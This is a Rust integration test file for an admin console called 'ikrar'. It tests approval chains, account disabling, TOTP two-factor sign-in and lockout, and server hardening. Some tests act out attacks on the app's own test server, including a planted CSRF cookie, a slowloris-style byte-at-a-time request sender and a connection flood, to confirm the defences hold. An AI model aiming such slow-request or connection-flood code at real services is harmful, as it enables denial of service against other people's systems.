    let res = create_in_console(&app, &bkpsdm, "boneka", "unit-admin", "DINKES").await;
    assert_eq!(res.status(), 200);
    let boneka = enrolled_in_console(&app, "boneka").await;
    let res = request_reset(&app, &boneka, SITI, "lupa frasa sandi, katanya").await;
    assert!(res.text().await.unwrap().contains("menunggu persetujuan"));
    let siti_request = open_request(&app, SITI);
    let decide = format!("/admin/reset/{siti_request}/setujui");
    assert_eq!(press_status(&app, &bkpsdm, &decide).await, 403);
    // A second superadmin from the server's command line is another person: they may approve
    // the new superadmin, and then neither of them decides for the other.
    create_admin(&app, "bkpsdm2", "superadmin", None);
    let second = signed_in(&app, "bkpsdm2").await;
    assert_eq!(press_status(&app, &second, &approve).await, 303);
    let bayangan_browser = enrolled_in_console(&app, "bayangan").await;
    assert_eq!(
        press_status(&app, &bayangan_browser, &decide).await,
        403,
        "bkpsdm made both bayangan and boneka"
    );
    let res = request_reset(&app, &second, BUDI, "pegawai pindah HP, sudah ditelepon").await;
    assert_eq!(res.status(), 200);
    let budi_request = format!("/admin/reset/{}/setujui", open_request(&app, BUDI));
    assert_eq!(
        press_status(&app, &bayangan_browser, &budi_request).await,
        403,
        "bkpsdm2 approved bayangan"
    );
    // bkpsdm2 made and approved nothing of boneka's: they decide Siti's request.
    assert_eq!(press_status(&app, &second, &decide).await, 200);
    // The chain of makers counts however long: bkpsdm's account made an account that asks.
    let res = create_in_console(&app, &bayangan_browser, "cucu", "unit-admin", "DINKES").await;
    assert_eq!(res.status(), 200);
    let cucu = enrolled_in_console(&app, "cucu").await;
    let res = request_reset(&app, &cucu, SITI, "kode baru hilang lagi, katanya").await;
    assert_eq!(res.status(), 200);
    let again = format!("/admin/reset/{}/setujui", open_request(&app, SITI));
    assert_eq!(press_status(&app, &bkpsdm, &again).await, 403);
    let trail = app.page(&second, "/admin/audit").await;
    assert!(trail.contains("Superadmin baru disetujui"), "{trail}");
}

/// Disabling an account and revoking a token ask first, say what happened, and a disabled
/// account can be enabled again.
#[tokio::test]
async fn disabling_and_revoking_ask_first_say_what_happened_and_can_be_undone() {
    let (app, _) = console().await;
    let superadmin = signed_in(&app, "bkpsdm").await;
    let auditor = signed_in(&app, "bawaslu").await;
    let secret = create_api_token(&app, &auditor, "Pemantau Bawaslu").await;
    let entries = || {
        reqwest::Client::new()
            .get(app.url("/log/entries?start=0&end=1"))
            .bearer_auth(&secret)
            .send()
    };
    // One tap only asks.
    let token = app.csrf(&superadmin, "/admin/token").await;
    let ask = |path: String| {
        let (browser, token) = (superadmin.clone(), token.clone());
        let url = app.url(&path);
        async move {
            browser
                .post(url)
                .form(&[("csrf_token", token.as_str())])
                .send()
                .await
                .unwrap()
        }
    };
    let res = ask("/admin/token/1/cabut".into()).await;
    assert_eq!(res.status(), 200);
    assert!(res
        .text()
        .await
        .unwrap()
        .contains("Cabut token Pemantau Bawaslu?"));
    assert_eq!(entries().await.unwrap().status(), 200, "one tap revoked it");
    let res = press(&app, &superadmin, "/admin/token/1/cabut").await;
    assert_eq!(res.headers()["location"], "/admin/token?dicabut=1");
    let page = app.page(&superadmin, "/admin/token?dicabut=1").await;
    assert!(page.contains("Token Pemantau Bawaslu dicabut."), "{page}");
    assert_eq!(entries().await.unwrap().status(), 401);

    let id = admin_id(&app, "bawaslu");
    let res = ask(format!("/admin/akun/{id}/nonaktifkan")).await;
    assert_eq!(res.status(), 200);
    assert!(res
        .text()
        .await
        .unwrap()
        .contains("Nonaktifkan akun bawaslu?"));
    assert_eq!(
        status(&app, &auditor, "/admin/token").await,
        200,
        "one tap disabled it"
    );
    let res = press(&app, &superadmin, &format!("/admin/akun/{id}/nonaktifkan")).await;
    assert_eq!(res.status(), 303);
    let location = res.headers()["location"].to_str().unwrap().to_owned();
    let page = app.page(&superadmin, &location).await;
    assert!(page.contains("Akun bawaslu dinonaktifkan."), "{page}");
    assert_eq!(status(&app, &auditor, "/admin/token").await, 303);
    assert_eq!(
        post_sign_in(&app, &app.browser(), "bawaslu", ADMIN_PASSWORD)
            .await
            .status(),
        401
    );
    // Enabled again: the account signs in; the revoked token stays revoked.
    let res = press(&app, &superadmin, &format!("/admin/akun/{id}/aktifkan")).await;
    assert_eq!(res.status(), 303);
    let location = res.headers()["location"].to_str().unwrap().to_owned();
    assert!(app
        .page(&superadmin, &location)
        .await
        .contains("Akun bawaslu aktif kembali."));
    signed_in(&app, "bawaslu").await;
    assert_eq!(entries().await.unwrap().status(), 401);
    // Nobody disables themselves, and a refused superadmin is never enabled.
    let own = format!("/admin/akun/{}/nonaktifkan", admin_id(&app, "bkpsdm"));
    assert_eq!(press_status(&app, &superadmin, &own).await, 403);
    create_in_console(&app, &superadmin, "calon", "superadmin", "").await;
    let calon = admin_id(&app, "calon");
    assert_eq!(
        press_status(&app, &superadmin, &format!("/admin/akun/{calon}/tolak")).await,
        303
    );
    assert_eq!(
        press_status(&app, &superadmin, &format!("/admin/akun/{calon}/aktifkan")).await,
        409
    );
}

/// The authenticator step of the app's clock now.
fn now_step(app: &TestApp) -> u64 {
    ikrar::domain::totp::step_of(app.app.clock.now().timestamp() as u64)
}

#[tokio::test]
async fn every_admin_signs_in_with_a_second_factor_that_works_once() {
    use ikrar::domain::totp::code_at;
    let app = TestApp::spawn().await;
    app.import_roster(&small_roster());
    let printed = create_admin(&app, "bkpsdm", "superadmin", None);
    let uri = printed
        .lines()
        .find(|l| l.starts_with("otpauth://totp/ikrar:bkpsdm?"))
        .unwrap_or_else(|| panic!("no URI in {printed}"));
    let secret = secret_of(uri);
    assert_eq!(secret.len(), 20);

    // The password alone, or with a wrong code, opens nothing.
    let browser = app.browser();
    for code in ["", "000000"] {
        let res = sign_in_with(&app, &browser, "bkpsdm", ADMIN_PASSWORD, code).await;
        assert_eq!(res.status(), 401, "code {code:?}");
    }
    // The right code opens a session; the same code again does not.
    let code = code_at(&secret, now_step(&app));
    let res = sign_in_with(&app, &browser, "bkpsdm", ADMIN_PASSWORD, &code).await;
    assert_eq!(res.status(), 303);
    assert_eq!(res.headers()["location"], "/admin");
    let replay = sign_in_with(&app, &app.browser(), "bkpsdm", ADMIN_PASSWORD, &code).await;
    assert_eq!(replay.status(), 401, "a code works once");
    // Wrong codes count toward the lockout: the replay and four more lock the account.
    for _ in 0..4 {
        sign_in_with(&app, &app.browser(), "bkpsdm", ADMIN_PASSWORD, "123456").await;
    }
    let next = code_at(&secret, now_step(&app) + 1);
    let locked = sign_in_with(&app, &app.browser(), "bkpsdm", ADMIN_PASSWORD, &next).await;
    assert_eq!(locked.status(), 429);
}

#[tokio::test]
async fn console_accounts_enrol_at_first_sign_in_and_a_lost_phone_is_reset() {
    use ikrar::domain::totp::code_at;
    let (app, _) = console().await;
    let bkpsdm = signed_in(&app, "bkpsdm").await;
    let token = app.csrf(&bkpsdm, "/admin/akun").await;
    let res = bkpsdm
        .post(app.url("/admin/akun"))
        .form(&[
            ("username", "operator"),
            ("role", "auditor"),
            ("password", ADMIN_PASSWORD),
            ("csrf_token", token.as_str()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    // First sign-in: the password leads to enrolment only.
    let operator = app.browser();
    let res = sign_in_with(&app, &operator, "operator", ADMIN_PASSWORD, "").await;
    assert_eq!(res.status(), 303);
    assert_eq!(res.headers()["location"], "/admin/2fa");
    assert_eq!(
        status(&app, &operator, "/admin").await,
        303,
        "not signed in yet"
    );
    let page = app.page(&operator, "/admin/2fa").await;
    assert!(page.contains("<svg"), "{page}");
    let start = page.find("<code class=\"digest\">").unwrap() + "<code class=\"digest\">".len();
    let end = page[start..].find('<').unwrap() + start;
    let secret = base32_decode(&page[start..end]);
    let token = app.csrf(&operator, "/admin/2fa").await;
    let enrol = |code: String| {
        let token = token.clone();
        let operator = operator.clone();
        let url = app.url("/admin/2fa");
        async move {
            operator
                .post(url)
                .form(&[("totp", code.as_str()), ("csrf_token", token.as_str())])
                .send()
                .await
                .unwrap()
        }
    };
    assert_eq!(enrol("000000".into()).await.status(), 401);
    let res = enrol(code_at(&secret, now_step(&app))).await;
    assert_eq!(res.status(), 303);
    assert_eq!(status(&app, &operator, "/admin").await, 200);
    // Enrolled: from now on the code is required.
    let res = sign_in_with(&app, &app.browser(), "operator", ADMIN_PASSWORD, "").await;
    assert_eq!(res.status(), 401);

    // A lost phone: the server's admin gives a new secret; the old one stops working and the
    // sessions end.
    let out = app.ikrar(&["admin", "reset-2fa", "operator"]);
    assert!(out.status.success(), "{}", text(&out));
    let printed = String::from_utf8(out.stdout).unwrap();
    let uri = printed
        .lines()
        .find(|l| l.starts_with("otpauth://"))
        .unwrap();
    let new_secret = secret_of(uri);
    assert_ne!(new_secret, secret);
    assert_eq!(
        status(&app, &operator, "/admin").await,
        303,
        "sessions ended"
    );
    let step = now_step(&app) + 1;
    for (which, key, expected) in [("old", &secret, 401), ("new", &new_secret, 303)] {
        let code = code_at(key, step);
        let res = sign_in_with(&app, &app.browser(), "operator", ADMIN_PASSWORD, &code).await;
        assert_eq!(res.status(), expected, "the {which} secret");
    }
    let unknown = app.ikrar(&["admin", "reset-2fa", "tidak-ada"]);
    assert_eq!(unknown.status.code(), Some(1), "{}", text(&unknown));
}

/// Two password-only sessions before enrolment: the one that enrols is the only one left; the
/// other neither sees the confirmed secret nor turns into a full session.
#[tokio::test]
async fn enrolling_ends_every_other_session_and_never_shows_the_secret_again() {
    use ikrar::domain::totp::code_at;
    let (app, _) = console().await;
    let bkpsdm = signed_in(&app, "bkpsdm").await;
    assert_eq!(
        create_in_console(&app, &bkpsdm, "pengamat", "auditor", "")
            .await
            .status(),
        200
    );
    let (first, second) = (app.browser(), app.browser());
    for browser in [&first, &second] {
        let res = sign_in_with(&app, browser, "pengamat", ADMIN_PASSWORD, "").await;
        assert_eq!(res.headers()["location"], "/admin/2fa");
    }
    let page = app.page(&first, "/admin/2fa").await;
    let secret = enrolment_secret(&page).expect("the secret to scan");
    let res = post_enrolment(&app, &first, &code_at(&secret, now_step(&app))).await;
    assert_eq!(res.status(), 303);
    assert_eq!(status(&app, &first, "/admin").await, 200);

    let page = app.page(&second, "/admin/2fa").await;
    assert!(
        enrolment_secret(&page).is_none(),
        "the secret shown again: {page}"
    );
    let res = post_enrolment(&app, &second, &code_at(&secret, now_step(&app) + 1)).await;
    let went = res
        .headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_owned());
    assert_ne!(
        went.as_deref(),
        Some("/admin"),
        "a password-only session became a full one"
    );
    assert_eq!(status(&app, &second, "/admin").await, 303);
    assert_eq!(
        status(&app, &first, "/admin").await,
        200,
        "the enrolled one lives"
    );
}

#[tokio::test]
async fn a_token_made_without_the_session_does_not_pass_with_it() {
    let (app, _) = console().await;
    let cookies = signed_in_cookies(&app, "bkpsdm").await;
    let session = cookies
        .split("; ")
        .find(|c| c.starts_with("ikrar_admin="))
        .unwrap()
        .to_owned();
    // A CSRF cookie the attacker planted, and the token that goes with it without a session.
    let planted = "A".repeat(43);
    let plain = reqwest::Client::new();
    let token_on = |path: &str, cookies: String| {
        let request = plain.get(app.url(path)).header("Cookie", cookies);
        async move { csrf_from(&request.send().await.unwrap().text().await.unwrap()) }
    };
    let token = token_on("/aktivasi", format!("ikrar_csrf={planted}")).await;
    let post = |token: String| {
        plain
            .post(app.url("/admin/token"))
            .header("Cookie", format!("ikrar_csrf={planted}; {session}"))
            .form(&[("name", "Titipan"), ("csrf_token", token.as_str())])
            .send()
    };
    assert_eq!(post(token).await.unwrap().status(), 403);
    // The token the signed-in page gives with that cookie works.
    let bound = token_on("/admin/token", format!("ikrar_csrf={planted}; {session}")).await;
    assert_eq!(post(bound).await.unwrap().status(), 200);
}

/// Sends a request head by hand and then its body one byte every `pace`; returns what the
/// server answered (its status line) and when, or `None` if it kept quiet for `patience`.
async fn trickle(
    app: &TestApp,
    head: String,
    pace: std::time::Duration,
    patience: std::time::Duration,
) -> Option<(String, std::time::Duration)> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let started = std::time::Instant::now();
    let address = app.base.trim_start_matches("http://").to_owned();
    let stream = tokio::net::TcpStream::connect(&address).await.unwrap();
    let (mut reader, mut writer) = stream.into_split();
    writer.write_all(head.as_bytes()).await.unwrap();
    let sender = tokio::spawn(async move {
        loop {
            tokio::time::sleep(pace).await;
            if writer.write_all(b"a").await.is_err() {
                return;
            }
        }
    });
    let mut answer = Vec::new();
    let read = tokio::time::timeout(patience, async {
        let mut buffer = [0u8; 4096];
        while !answer.windows(2).any(|w| w == b"\r\n") {
            match reader.read(&mut buffer).await {
                Ok(0) | Err(_) => break,
                Ok(n) => answer.extend_from_slice(&buffer[..n]),
            }
        }
    })
    .await;
    sender.abort();
    read.ok()?;
    let status = String::from_utf8_lossy(&answer).lines().next()?.to_owned();
    Some((status, started.elapsed()))
}

/// A form announced as 16 KB and sent a byte a second is cut off within seconds (408), on the
/// employee's forms and the admin's sign-in alike; before, it held its connection for ever.
#[tokio::test]
async fn a_body_sent_a_byte_at_a_time_is_cut_off_within_seconds() {
    let app = TestApp::spawn().await;
    app.import_roster(&small_roster());
    let browser = app.browser();
    let page = browser.get(app.url("/aktivasi")).send().await.unwrap();
    let cookies: Vec<String> = page
        .headers()
        .get_all("set-cookie")
        .iter()
        .map(|c| c.to_str().unwrap().split(';').next().unwrap().to_owned())
        .collect();
    let cookie = cookies.join("; ");
    let host = app.base.trim_start_matches("http://").to_owned();
    let slow = [
        "/aktivasi".to_owned(),
        "/admin/masuk".to_owned(),
        format!("/pakta/{PACT}/tanda-tangan"),
    ]
    .map(|path| {
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\n\
             Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 16000\r\n\r\n"
        );
        trickle(
            &app,
            head,
            std::time::Duration::from_secs(1),
            std::time::Duration::from_secs(40),
        )
    });
    for (path, answer) in ["/aktivasi", "/admin/masuk", "tanda-tangan"]
        .iter()
        .zip(futures_util::future::join_all(slow).await)
    {
        let (status, after) = answer.unwrap_or_else(|| panic!("{path} still open after 40 s"));
        assert!(status.contains(" 408 "), "{path}: {status}");
        assert!(
            after < std::time::Duration::from_secs(30),
            "{path}: {after:?}"
        );
    }
    assert_eq!(status_of(&app, "/healthz").await, 200);
}

/// One address holds a bounded number of connections: the next is answered 503 with
/// Retry-After at once, and a closed one makes room again.
#[tokio::test]
async fn one_address_holds_a_bounded_number_of_connections() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let app = TestApp::spawn_configured(DataDir::new(), |c| c.connections_per_client = 8).await;
    let address = app.base.trim_start_matches("http://").to_owned();
    let ask_on = |mut stream: tokio::net::TcpStream| async {
        let head = format!("GET /healthz HTTP/1.1\r\nHost: {address}\r\n\r\n");
        stream.write_all(head.as_bytes()).await.unwrap();
        let mut answer = vec![0u8; 4096];
        let n = tokio::time::timeout(std::time::Duration::from_secs(10), stream.read(&mut answer))
            .await
            .expect("an answer")
            .unwrap();
        (String::from_utf8_lossy(&answer[..n]).into_owned(), stream)
    };
    let ask = || async {
        ask_on(tokio::net::TcpStream::connect(&address).await.unwrap())
            .await
            .0
    };
    // Eight connections, each answered once (so the server has surely counted it) and kept
    // open (keep-alive).
    let mut held = Vec::new();
    for _ in 0..8 {
        let (answer, stream) =
            ask_on(tokio::net::TcpStream::connect(&address).await.unwrap()).await;
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
        held.push(stream);
    }
    let refused = ask().await;
    assert!(refused.starts_with("HTTP/1.1 503"), "{refused}");
    assert!(
        refused.to_lowercase().contains("retry-after: 5"),
        "{refused}"
    );
    held.pop();
    let mut answer = String::new();
    for _ in 0..50 {
        answer = ask().await;
        if answer.starts_with("HTTP/1.1 200") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
}

/// The log key file is PKCS#8 v1, so that operators can back it up and inspect it with OpenSSL:
/// `openssl pkey -in log-key.pem -pubout` gives the key the log publishes at `/log/key`.
#[tokio::test]
async fn openssl_reads_the_log_key_and_finds_the_published_key() {
    use base64::Engine;
    let app = TestApp::spawn().await;
    let path = &app.app.config.log_key_path;
    let out = std::process::Command::new("openssl")
        .args([
            "pkey",
            "-in",
            path.to_str().unwrap(),
            "-pubout",
            "-outform",
            "DER",
        ])
        .output()
        .expect("openssl (CI installs it)");
    assert!(out.status.success(), "{}", text(&out));
    let published = reqwest::get(app.url("/log/key"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    // name+keyhash+base64(key); the base64 may hold '+' itself.
    let key = published.trim().splitn(3, '+').nth(2).unwrap();
    let key = base64::engine::general_purpose::STANDARD
        .decode(key)
        .unwrap();
    // The verifier key is the algorithm byte 0x01 and the 32-byte Ed25519 key; OpenSSL's DER
    // SubjectPublicKeyInfo ends with the same 32 bytes.
    assert_eq!(key[0], 0x01);
    assert_eq!(out.stdout[out.stdout.len() - 32..], key[1..]);
}
